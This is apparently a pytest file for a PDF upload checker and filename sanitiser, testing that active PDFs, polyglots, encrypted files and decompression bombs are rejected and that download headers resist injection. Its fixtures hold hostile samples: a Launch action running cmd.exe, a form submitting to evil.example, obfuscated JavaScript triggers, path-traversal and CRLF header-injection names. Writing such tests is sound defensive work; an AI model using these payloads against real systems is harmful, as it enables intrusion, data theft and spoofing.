"""PDFs that do more than show themselves, and file names that want to be something else."""

from __future__ import annotations

import time
import zlib

import pytest

from ventanilla.documents.answers import pdf_response
from ventanilla.documents.archive.desk import plain_name, safe_name
from ventanilla.documents.model import Printed
from ventanilla.documents.soundness import fault_of

_TAIL = b"\nxref\n0 1\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"


def pdf(body: bytes, head: bytes = b"%PDF-1.7\n") -> bytes:
    return head + b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n" + body + _TAIL


def object_stream(inner: bytes, name: bytes = b"/ObjStm") -> bytes:
    packed = zlib.compress(inner)
    return b"5 0 obj<</Type %s/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj" % (
        name,
        len(packed),
        packed,
    )


@pytest.mark.parametrize(
    ("content", "fault"),
    [
        (pdf(b""), ""),
        (pdf(object_stream(b"3 0 <</Type/Page>>")), ""),
        (pdf(b"3 0 obj<</OpenAction[2 0 R/Fit]>>endobj"), ""),
        (b"", "not_pdf"),
        (b"%PDF-1.7", "not_pdf"),
        (b"MZ\x90\x00" + pdf(b""), "not_pdf"),
        (b"\xff\xd8\xff\xe0" + pdf(b""), "not_pdf"),
        (pdf(b"") + b"PK\x05\x06" + b"\0" * 5000, "not_pdf"),
        (pdf(b"3 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj"), "active"),
        (pdf(b"3 0 obj<</S/#4aava#53cript/JS(x)>>endobj"), "active"),
        (pdf(b"3 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "active"),
        (pdf(b"3 0 obj<</Type/EmbeddedFile>>stream\nMZ\nendstream endobj"), "active"),
        (pdf(b"3 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj"), "active"),
        (pdf(b"3 0 obj<</AcroForm<</XFA 4 0 R>>>>endobj"), "active"),
        (pdf(b"3 0 obj<</Type/RichMedia>>endobj"), "active"),
        (pdf(object_stream(b"3 0 <</S/JavaScript/JS(x)>>")), "active"),
        (pdf(object_stream(b"3 0 <</S/#4aavaScript/JS(x)>>", b"/Obj#53tm")), "active"),
        (pdf(b"7 0 obj<</Encrypt 8 0 R>>endobj"), "encrypted"),
        (pdf(object_stream(b"0" * (70 * 1024 * 1024))), "bomb"),
        (pdf(b"stream\n" * 30_000), "bomb"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_only_a_pdf_that_does_nothing_is_taken(content: bytes, fault: str) -> None:
    started = time.monotonic()
    assert fault_of(content) == fault
    assert time.monotonic() - started < 5


NAMES = [
    "../../etc/passwd",
    "a.pdf\0.html",
    'a"; filename="b.html',
    "a\r\nSet-Cookie: x=1",
    "\u202egpj.fdp",
    ".htaccess",
    "Акт сверки 35/1: «Мельница» & Ко",
    "x" * 400,
    "…",
    "",
]


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_a_name_stays_a_name_in_the_header(name: str) -> None:
    printed = Printed(b"%PDF-", plain_name(name), safe_name(name))
    said = pdf_response(printed, is_saved=True).headers["Content-Disposition"]
    plain, _, extended = said.partition("; filename*=UTF-8''")
    assert plain.startswith('attachment; filename="')
    assert plain.count('"') == 2
    assert plain.endswith('.pdf"')
    assert extended.endswith(".pdf")
    assert extended.isascii()
    assert not set(extended) & set('"; \r\n/\\')
    shown = safe_name(name)
    assert len(shown) <= 104
    assert not shown.startswith(".")
    assert not set(shown) & set('/\\:*?"<>|\r\n\0\u202e')


def test_cyrillic_survives_for_those_who_can_read_it() -> None:
    assert safe_name("Акт сверки 35-0926") == "Акт сверки 35-0926.pdf"
    said = pdf_response(Printed(b"", "x.pdf", "Акт.pdf")).headers["Content-Disposition"]
    assert said == "inline; filename=\"x.pdf\"; filename*=UTF-8''%D0%90%D0%BA%D1%82.pdf"
